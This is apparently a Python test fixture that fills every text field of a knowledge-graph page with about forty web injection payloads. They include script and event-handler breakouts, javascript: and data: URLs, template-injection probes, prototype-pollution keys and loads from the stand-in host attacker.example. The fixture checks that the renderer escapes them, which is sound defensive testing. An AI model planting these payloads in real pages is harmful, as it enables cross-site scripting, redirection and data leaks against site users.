"""Takes nothing; gives a page in which every place that shows text holds what people try in order to get out of it."""

from __future__ import annotations

from dataclasses import replace

from kg.views.records import PageArticle, PageClaim, PageClass, PageData, PageDerived, PageNode

#: What people try in order to get out of a text. `{n}` tells the places apart; each would set `window.broken`.
PAYLOADS = (
    "<script>window.broken={n}</script>",
    "</script><script>window.broken={n}</script>",
    "<img src=x onerror=window.broken={n}>",
    "<svg onload=window.broken={n}>",
    "<svg><script>window.broken={n}</script></svg>",
    '"><img src=x onerror=window.broken={n}>',
    "'><img src=x onerror=window.broken={n}>",
    "' onmouseover='window.broken={n}",
    '" autofocus onfocus="window.broken={n}',
    "javascript:window.broken={n}",
    "data:text/html,<script>window.broken={n}</script>",
    "vbscript:window.broken={n}",
    "<iframe src=javascript:window.broken={n}>",
    "<iframe srcdoc='<script>parent.broken={n}</script>'>",
    "<a href=javascript:window.broken={n}>click</a>",
    "<!--<script>window.broken={n}//",
    "--><script>window.broken={n}</script>",
    "</style><script>window.broken={n}</script>",
    "</title><script>window.broken={n}</script>",
    "</textarea><script>window.broken={n}</script>",
    "{{{{ cycler.__init__.__globals__ }}}}<b>{n}</b>",
    "{{% for x in range(9) %}}{n}{{% endfor %}}",
    "${{window.broken={n}}}",
    "`${{window.broken={n}}}`",
    "\\u003cscript\\u003ewindow.broken={n}\\u003c/script\\u003e",
    "&lt;script&gt;window.broken={n}&lt;/script&gt;",
    "\u2028window.broken={n}\u2029",
    '\\";window.broken={n};//',
    "*/window.broken={n}/*",
    "<object data=https://attacker.example/{n}></object>",
    "<link rel=stylesheet href=https://attacker.example/{n}.css>",
    "<style>*{{background:url(https://attacker.example/{n})}}</style>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/{n}'>",
    "<base href=https://attacker.example/{n}/>",
    "<form action=https://attacker.example/{n}><button autofocus>",
    "<math><mtext><img src=https://attacker.example/{n}></mtext></math>",
    "https://attacker.example/href?{n}",
    "__proto__",
    "constructor",
    "\u202egnissorc <img src=x onerror=window.broken={n}>",
)


def build() -> PageData:
    """A page in which every place that shows text holds every payload in turn: one node, claim and article each."""
    articles: list[PageArticle] = []
    classes: list[PageClass] = []
    nodes: list[PageNode] = []
    claims: list[PageClaim] = []
    derived: list[PageDerived] = []

    def name(number: int) -> str:
        return PAYLOADS[number].format(n=number)

    for number, payload in enumerate(PAYLOADS):
        bad = payload.format(n=number)
        key = name(number)
        before = f"Before 🚗 {bad} "
        articles.append(
            PageArticle(
                id=key,
                title=bad,
                publisher=bad,
                published=bad,
                published_basis=bad,
                language=bad,
                url=bad,
                paragraphs=(bad, f"{before}{bad} after."),
            )
        )
        classes.append(PageClass(id=key, label=bad, top=bad))
        other = name((number - 1) % len(PAYLOADS))
        nodes.append(
            PageNode(
                id=key,
                label=bad,
                zh=bad,
                aliases=(bad, bad[::-1]),
                cls=key,
                definition=bad,
                different_from=(other,),
                proposed=bool(number % 2),
            )
        )
        claim = PageClaim(
            id=key,
            subject=key,
            object=other,
            property=bad,
            property_label=bad,
            text=bad,
            low=bad,
            high=bad,
            unit=bad,
            bound=bad,
            when=bad,
            since=bad,
            until=bad,
            when_basis=bad,
            when_text=bad,
            scope=((bad, bad),),
            speaker=bad,
            speaker_node=other,
            chain=(bad, bad),
            role=bad,
            modality=bad,
            negated=bool(number % 2),
            condition=bad,
            status=bad if number % 3 else "proposed",
            extractor=bad,
            confidence=bad,
            reason=bad,
            article=key,
            paragraph=1,
            quote=bad,
            quote_start=len(before),
            part=bad,
            caveat=bad,
            note=bad,
        )
        claims += [claim, replace(claim, id=f"{key} value", object=None)]
        derived.append(PageDerived(subject=key, property_label=bad, text=bad, object=other, rule=bad, claims=(key,)))
    everything = " ".join(payload.format(n=999) for payload in PAYLOADS)
    return PageData(
        title=everything,
        description=everything,
        licence=everything,
        articles=tuple(articles),
        classes=tuple(classes),
        nodes=tuple(nodes),
        claims=tuple(claims),
        derived=tuple(derived),
    )
